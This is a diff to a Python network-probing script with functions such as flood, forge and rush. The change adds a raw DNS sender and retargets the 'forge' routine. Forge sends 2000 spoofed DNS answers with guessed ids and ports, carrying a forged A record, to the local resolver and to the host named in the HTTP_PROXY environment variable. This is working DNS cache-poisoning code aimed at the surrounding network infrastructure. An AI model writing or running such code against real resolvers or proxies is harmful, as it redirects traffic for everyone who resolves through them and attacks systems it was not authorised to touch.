@@ -15,6 +15,7 @@ import subprocess
 import sys
 import threading
 import time
+from collections.abc import Callable
 from typing import Any
 
 SECONDS = 6.0
@@ -95,6 +96,24 @@ def ask(questions: list[list[str]]) -> None:
         list(pool.map(one, questions))
 
 
+def wire(messages: dict[str, str]) -> None:
+    """Each of label → a message in hexadecimal, its id left out: return code and number of answers."""
+    for label, text in messages.items():
+        message = os.urandom(2) + bytes.fromhex(text)
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as endpoint:
+            endpoint.settimeout(0.7)
+            endpoint.sendto(message, (name_server(), 53))
+            try:
+                got = endpoint.recv(65535)
+            except OSError as error:
+                say(label, type(error).__name__)
+                continue
+        if got[:2] == message[:2]:
+            say(label, f"rcode {got[3] & 15}, {struct.unpack('!H', got[6:8])[0]} answers")
+        else:
+            say(label, "another id")
+
+
 def again(spec: list[Any]) -> None:
     """One name [name, how often, seconds between], asked for again and again: all that it ever was."""
     name, count, pause = spec
@@ -123,8 +142,9 @@ def flood(spec: list[Any]) -> None:
 
 
 def forge(spec: list[Any]) -> None:
-    """Answers that nobody asked for: [name, address, to whom...], with ids and ports guessed."""
-    name, address, *targets = spec
+    """Answers that nobody asked for: [name, address], with ids and ports guessed, to all who resolve here."""
+    name, address = spec
+    targets = [name_server(), os.environ["HTTP_PROXY"].rpartition("/")[2].partition(":")[0]]
     asked = question(name, "A")
     record = b"\xc0\x0c" + struct.pack("!2HIH", 1, 1, 3600, 4) + socket.inet_aton(address)
     # A question that brings its own answer along, in the answer section and in the additional one.
@@ -141,7 +161,7 @@ def forge(spec: list[Any]) -> None:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as endpoint:
         for number in range(2000):
             wire = struct.pack("!6H", number * 33 & 0xFFFF, RESPONSE, 1, 1, 0, 0) + asked[12:] + record
-            for target in targets or [name_server()]:
+            for target in targets:
                 port = 53 if number % 2 else 1024 + (number * 31) % 60000
                 try:
                     count += bool(endpoint.sendto(wire, (target, port)))
@@ -426,11 +446,11 @@ def greedy(spec: list[Any]) -> None:
     say("greedy", json.dumps({status: seen.count(status) for status in sorted(set(seen))}))
 
 
-WAYS = {
+WAYS: dict[str, Callable[[Any], None]] = {
     way.__name__: way
     for way in (ask, again, flood, forge, speak, datagrams, fetch, burst, hold, rush, use_up, keep, drip)
 }
-WAYS |= {way.__name__: way for way in (outlast, steady, greedy)}
+WAYS |= {way.__name__: way for way in (outlast, steady, greedy, wire)}
 
 
 def main() -> int:
